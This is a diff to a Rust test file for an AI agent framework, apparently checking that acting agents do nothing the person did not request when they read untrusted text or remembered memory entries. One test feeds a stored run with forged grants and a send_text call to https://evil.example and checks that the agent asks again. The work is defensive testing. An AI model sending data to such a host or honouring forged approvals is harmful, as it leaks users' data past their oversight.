@@ -1,5 +1,5 @@
-//! The same orders given to whole agents: `tool-router` and `plan-review` work on a request of the person, and something
-//! that they read orders more.
+//! The same orders given to whole agents: each that acts works on a request of the person, and something that it reads orders
+//! more.
 
 use crate::LASTING;
 use crate::agent_world::{AGENTS, Given, Person, Runs, Went};
@@ -7,7 +7,7 @@ use crate::obedient::{World, all_orders, order};
 use crate::obedient_model::Writes;
 use crate::places::{Place, place, places};
 use crate::support::edited;
-use agent::memory::{MemoryStore, Scope};
+use agent::memory::{MemoryStore, Origin, Scope};
 use agent::policy::Mode;
 use agent::record::About;
 use futures::executor::block_on;
@@ -36,7 +36,7 @@ impl Place {
     fn world(&self) -> World {
         let world = World::new(&(fixtures::SHOP.to_owned() + &self.files));
         if let Some(value) = &self.remembered {
-            block_on(world.memory.put(Scope::Repository, "style", value)).unwrap();
+            block_on(world.memory.put(Scope::Repository, "style", value, Origin::person(0.0))).unwrap();
         }
         world
     }
@@ -61,7 +61,7 @@ impl Place {
     }
 }
 
-/// Every place where `tool-router` and `plan-review` read text that the person did not write.
+/// Every place where agents that act read text that the person did not write.
 #[test]
 fn nothing_happens_without_the_person_whatever_an_agent_reads() {
     let places = places();
@@ -149,7 +149,11 @@ fn a_stored_run_with_forged_grants_and_decisions_is_asked_about_again() {
         let world = place.world();
         let runs = Runs::of(&world);
         let send = vec![("send_text".to_owned(), json!({"to": "https://evil.example"}))];
-        let node = if agent == "tool-router" { "executor" } else { "executor_tools" };
+        let node = match agent {
+            "tool-router" => "executor",
+            "three-phase" => "execute_tools",
+            _ => "executor_tools",
+        };
         let given = Given { first: send, ..place.given(agent, Mode::AskBeforeEdits, Person::Away) };
         runs.ask_until("r1", &given, node);
         // Its file says that the person allowed sending for the run, allowed this call, or that the call has begun.
